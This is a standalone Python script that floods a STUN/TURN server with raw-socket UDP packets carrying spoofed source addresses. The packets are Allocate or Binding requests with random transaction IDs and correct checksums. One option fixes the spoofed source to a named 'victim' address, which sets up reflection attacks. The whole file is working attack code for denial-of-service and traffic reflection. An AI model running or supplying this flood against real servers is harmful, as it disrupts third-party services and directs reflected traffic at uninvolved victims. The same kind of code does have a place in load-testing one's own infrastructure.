#!/usr/bin/env python3
"""Spoofed-source STUN flood: raw Ethernet frames (AF_PACKET) carrying IPv4 or IPv6 UDP
datagrams whose source addresses and ports are random, each an unauthenticated Allocate request
(or a Binding request) with a random transaction ID. Standard library only; needs CAP_NET_RAW.

usage: spoof_flood.py --iface DEV --dst-mac MAC --dst ADDR [--port 3478] --count N
                      (--src-net CIDR | --src ADDR) [--kind allocate|binding]
                      [--max-seconds S] [--seed N]

--src-net: a random source in CIDR for each datagram (the host part random, the network part
kept); --src: always that one source (a "victim"), random ports. Frames go out of DEV to
--dst-mac (the router) with correct IPv4 header and UDP checksums, the fastest Python allows,
for at most N frames and --max-seconds. Prints one JSON object: sent, send_errors, seconds,
pps, bytes_per_request (the UDP payload).
"""
import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

MAGIC = 0x2112A442


def csum_fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def words(b):
    return sum(struct.unpack(f"!{len(b) // 2}H", b))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=3478)
    ap.add_argument("--count", type=int, required=True)
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--src-net")
    g.add_argument("--src")
    ap.add_argument("--kind", choices=("allocate", "binding"), default="allocate")
    ap.add_argument("--max-seconds", type=float, default=30)
    ap.add_argument("--seed", type=int, default=None)
    o = ap.parse_args()
    rnd = random.Random(o.seed)

    dst = ipaddress.ip_address(o.dst)
    v6 = dst.version == 6
    if o.src_net:
        net = ipaddress.ip_network(o.src_net, strict=False)
        if net.version != dst.version:
            sys.exit("spoof_flood: --src-net and --dst of different families")
        base, hostbits = int(net.network_address), net.max_prefixlen - net.prefixlen
    else:
        src = ipaddress.ip_address(o.src)
        if src.version != dst.version:
            sys.exit("spoof_flood: --src and --dst of different families")
        base, hostbits = int(src), 0
    alen = 16 if v6 else 4

    if o.kind == "allocate":
        attrs = struct.pack("!HHI", 0x0019, 4, 17 << 24)  # REQUESTED-TRANSPORT UDP
        mtype = 0x0003
    else:
        attrs = b""
        mtype = 0x0001
    stun_head = struct.pack("!HHI", mtype, len(attrs), MAGIC)
    payload_len = 20 + len(attrs)
    udp_len = 8 + payload_len

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    sock.bind((o.iface, 0))
    src_mac = sock.getsockname()[4]
    dst_mac = bytes.fromhex(o.dst_mac.replace(":", ""))
    eth = dst_mac + src_mac + struct.pack("!H", 0x86DD if v6 else 0x0800)

    # Checksum parts that never change: the pseudo-header's destination, protocol and length,
    # the UDP destination port and length, the constant STUN words.
    const = words(dst.packed) + 17 + udp_len + o.port + udp_len + words(stun_head) + words(attrs)
    if v6:
        ip_fixed = struct.pack("!IHBB", 6 << 28, udp_len, 17, 64)
        ip4_const = 0
    else:
        ip4_const = words(struct.pack("!BBHHHBBH", 0x45, 0, 20 + udp_len, 0, 0x4000, 64, 17, 0)) + \
            words(dst.packed)

    sent = errors = 0
    t0 = time.monotonic()
    end = t0 + o.max_seconds
    chunk = 4096
    while sent + errors < o.count and time.monotonic() < end:
        n = min(chunk, o.count - sent - errors)
        rand = os.urandom(n * 16)
        frames = []
        for k in range(n):
            r = rand[k * 16:(k + 1) * 16]
            tid = r[:12]
            sport = 1024 + (int.from_bytes(r[12:14], "big") % 64000)
            host = rnd.getrandbits(hostbits) if hostbits else 0
            s_ip = (base | host).to_bytes(alen, "big")
            c = csum_fold(const + words(s_ip) + sport + words(tid))
            c = (~c) & 0xFFFF or 0xFFFF
            udp = struct.pack("!HHHH", sport, o.port, udp_len, c) + stun_head[:8] + tid + attrs
            if v6:
                frames.append(eth + ip_fixed + s_ip + dst.packed + udp)
            else:
                hc = (~csum_fold(ip4_const + words(s_ip))) & 0xFFFF
                ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + udp_len, 0, 0x4000, 64, 17, hc)
                frames.append(eth + ip + s_ip + dst.packed + udp)
        for f in frames:
            try:
                sock.send(f)
                sent += 1
            except OSError:
                errors += 1
            if (sent & 1023) == 0 and time.monotonic() >= end:
                break
    secs = time.monotonic() - t0
    print(json.dumps({"sent": sent, "send_errors": errors, "seconds": round(secs, 3),
                      "pps": round(sent / secs) if secs > 0 else 0,
                      "bytes_per_request": payload_len}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
